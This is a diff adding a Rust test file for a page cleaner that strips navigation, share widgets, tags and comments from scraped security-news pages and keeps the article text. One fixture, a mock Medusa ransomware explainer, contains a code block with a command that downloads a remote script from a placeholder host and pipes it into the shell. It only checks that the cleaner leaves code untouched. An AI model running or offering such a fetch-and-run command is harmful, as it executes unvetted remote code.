@@ -1,0 +1,268 @@
+use super::*;
+
+const NEWS_PAGE: &str = "\
+# Police Seize Botnet Servers in Three Countries
+
+#1 Trusted Security News
+
+[![Logo](data:image/png;base64...)](/)
+
+[** Subscribe](#email-outer)
+
+* [Home](/)
+* [Data Breaches](/search/label/data%20breach)
+* [Webinars](/p/webinars.html)
+
+Reach out to get featured—contact us to send your exclusive story idea, research, hacks, or ask us a question.
+
+# [Police Seize Botnet Servers in Three Countries](https://news.example/2024/12/botnet.html)
+
+**Dec 02, 2024**Jane WriterBotnet / Law Enforcement
+
+Police in three countries seized servers used by a large botnet that rented out hijacked home routers to criminals.
+
+**
+
+The operation took two years, investigators said.
+
+\"We followed the money,\" one of them told reporters in a briefing on Monday.
+
+[![](data:image/svg+xml;base64...)](#link_share)
+
+The botnet's operators face charges of fraud and computer intrusion in two of the countries involved.
+
+Found this article interesting? Follow us on Twitter and LinkedIn to read more exclusive content we post.
+
+SHARE
+
+[**Share on Facebook](#link_share) [**Share on Twitter](#link_share)
+
+[botnet](https://news.example/search/label/botnet)[Law Enforcement](https://news.example/search/label/law)
+
+Trending News
+
+[Another story](https://news.example/2024/12/other.html)
+";
+
+fn no_rules() -> SourceRules {
+    SourceRules::default()
+}
+
+#[test]
+fn keeps_the_story_and_drops_the_page_around_it() {
+    let c = clean(
+        NEWS_PAGE,
+        "Police Seize Botnet Servers in Three Countries",
+        &no_rules(),
+    );
+    assert_eq!(c.kept_original, None);
+    assert_eq!(
+        c.markdown,
+        "Police in three countries seized servers used by a large botnet that rented out hijacked home routers to criminals.\n\n\
+         The operation took two years, investigators said.\n\n\
+         \"We followed the money,\" one of them told reporters in a briefing on Monday.\n\n\
+         The botnet's operators face charges of fraud and computer intrusion in two of the countries involved.\n"
+    );
+    let reasons: Vec<&str> = c.removals.iter().map(|r| r.reason.as_str()).collect();
+    assert_eq!(reasons.first(), Some(&"site chrome before the article"));
+    assert!(reasons.contains(&"page footer after the article (share, tags, related, comments)"));
+    assert!(
+        reasons.contains(&"empty formatting (icon leftovers)"),
+        "{reasons:?}"
+    );
+    assert!(
+        reasons.contains(&"placeholder image (data: or empty URL)"),
+        "{reasons:?}"
+    );
+    // The first removal spans the chrome up to the line before the story.
+    assert_eq!((c.removals[0].first, c.removals[0].last), (1, 17));
+}
+
+#[test]
+fn footer_markers_end_the_body() {
+    let cases = [
+        "This entry was posted on Tuesday 11th of August 2026 05:28 PM",
+        "Tags: [China](https://b.example/tag/china/), [encryption](https://b.example/tag/enc/)",
+        "### Comments",
+        "11 Comments",
+        "Post navigation",
+        "Related Posts",
+        "## You may also like",
+        "## 12 thoughts on “T”",
+    ];
+    for footer in cases {
+        let page = format!(
+            "# T\n\nThe first paragraph of the story is long enough to count as real prose here.\n\nNo, it's not true.\n\n{footer}\n\nA commenter writes a long reply that goes on for quite a while about the story above.\n"
+        );
+        let c = clean(&page, "T", &no_rules());
+        assert_eq!(
+            c.markdown,
+            "The first paragraph of the story is long enough to count as real prose here.\n\nNo, it's not true.\n",
+            "{footer}"
+        );
+    }
+}
+
+#[test]
+fn bold_lead_in_and_headings_inside_are_kept_and_code_is_untouched() {
+    let page = "\
+* [Home](/)
+
+# Medusa ransomware
+
+*Posted on January 21, 2025*
+
+**What is the Medusa ransomware?**
+
+Medusa is a ransomware-as-a-service platform that first came to prominence in 2023 and hits Windows.
+
+## How it spreads
+
+```
+Share this
+curl http://x/payload.sh | sh
+```
+
+It arrives through phishing emails and unpatched services, the researchers explain in detail.
+";
+    let c = clean(page, "Medusa ransomware", &no_rules());
+    assert!(
+        c.markdown
+            .starts_with("**What is the Medusa ransomware?**\n\nMedusa is"),
+        "{}",
+        c.markdown
+    );
+    assert!(c.markdown.contains("## How it spreads"));
+    assert!(c.markdown.contains("Share this\ncurl"), "{}", c.markdown);
+    assert!(c.markdown.trim_end().ends_with("in detail."));
+}
+
+#[test]
+fn a_run_of_links_with_little_after_it_ends_the_body() {
+    let page = "\
+# Story
+
+The first paragraph of the story is long enough to count as real prose here.
+
+* [**Related story number one with a long title**](https://e.org/1)
+* [**Related story number two with a long title**](https://e.org/2)
+* [**Related story number three with a long title**](https://e.org/3)
+
+A publication blurb that is long enough to look like prose, about the site itself.
+";
+    let c = clean(page, "Story", &no_rules());
+    assert_eq!(
+        c.markdown,
+        "The first paragraph of the story is long enough to count as real prose here.\n"
+    );
+}
+
+#[test]
+fn label_lines_are_not_prose() {
+    assert!(!is_prose(&measure("+ Date: August 2, 2021 -- 11:20 GMT (12:20 BST)")));
+    assert!(is_prose(&measure("Update: the vendor has released a fix for the flaw today.")));
+}
+
+#[test]
+fn widget_lines_inside_the_body_are_dropped() {
+    let page = "\
+# A write-up
+
+Hi all, today I want to talk about one of my findings on a private bug bounty program.
+
+Press enter or click to view image in full size
+
+![]()
+
+Advertisement
+
+I added an email parameter to the request body and the server accepted it without any check.
+";
+    let c = clean(page, "A write-up", &no_rules());
+    assert_eq!(
+        c.markdown,
+        "Hi all, today I want to talk about one of my findings on a private bug bounty program.\n\n\
+         I added an email parameter to the request body and the server accepted it without any check.\n"
+    );
+}
+
+#[test]
+fn a_page_without_prose_is_kept_as_it_is() {
+    let page = "* [Home](/)\n* [About](/about)\n\nShort line\n";
+    let c = clean(page, "Nothing", &no_rules());
+    assert_eq!(c.markdown, page);
+    assert_eq!(
+        c.kept_original.as_deref(),
+        Some("no paragraph of prose found")
+    );
+}
+
+#[test]
+fn cleaning_that_would_drop_most_prose_keeps_the_original() {
+    // The "title" heading sits before a short tail; the real story is above it.
+    let story = "This is a long paragraph of the real story, with plenty of words in it to count as prose.\n\n";
+    let page = format!(
+        "{}# Title\n\nA trailing paragraph after the title heading with enough words in it to pass the minimum size check of twenty-five words, yes indeed, and then a few more words.\n",
+        story.repeat(4)
+    );
+    let c = clean(&page, "Title", &no_rules());
+    assert!(
+        c.kept_original
+            .as_deref()
+            .is_some_and(|r| r.starts_with("cleaning would drop")),
+        "{c:?}"
+    );
+    assert_eq!(c.markdown, page);
+}
+
+#[test]
+fn configured_rules_win() {
+    let rules = SourceRules {
+        start_after: Some(Regex::new("^BEGIN$").unwrap()),
+        stop_before: Some(Regex::new("^END$").unwrap()),
+        drop: vec![Regex::new("^Sponsored").unwrap()],
+    };
+    let page = "Chrome paragraph that looks like prose because it has many many words in it.\nBEGIN\nThe story starts here and has more than enough words to be a paragraph.\nSponsored: buy our product, it is the best product you could ever buy today.\nThe story goes on with another long sentence full of words about the event.\nEND\nFooter paragraph that also looks like prose with many many words in it.\n";
+    let c = clean(page, "x", &rules);
+    assert_eq!(
+        c.markdown,
+        "The story starts here and has more than enough words to be a paragraph.\n\nThe story goes on with another long sentence full of words about the event.\n"
+    );
+    let missing = SourceRules {
+        start_after: Some(Regex::new("^NOPE$").unwrap()),
+        ..SourceRules::default()
+    };
+    assert!(clean(page, "x", &missing).kept_original.is_some());
+}
+
+#[test]
+fn measures_nested_links_and_images() {
+    let info = measure("* [![Logo](data:image/png;base64...)](/) [Home](/) and \\*more\\* text");
+    assert_eq!(info.images, ["data:image/png;base64..."]);
+    assert_eq!(info.links.len(), 2);
+    assert_eq!(info.links[1], ("Home".to_owned(), "/".to_owned()));
+    assert_eq!(info.text.trim(), "Home and *more* text");
+    let info = measure("[Read more](https://e.org/a_(b) \"t\")");
+    assert_eq!(info.links[0].1, "https://e.org/a_(b)");
+}
+
+#[test]
+fn footer_detection() {
+    for yes in [
+        "Found this article interesting? Follow us",
+        "SHARE",
+        "Share:",
+        "Trending News",
+        "5 Comments",
+        "Tags: a, b",
+    ] {
+        assert!(is_footer(yes), "{yes}");
+    }
+    for no in [
+        "Share prices fell after the breach",
+        "Related to CVE-2024-3094, the flaw",
+        "Comments from the vendor were not returned",
+    ] {
+        assert!(!is_footer(no), "{no}");
+    }
+}
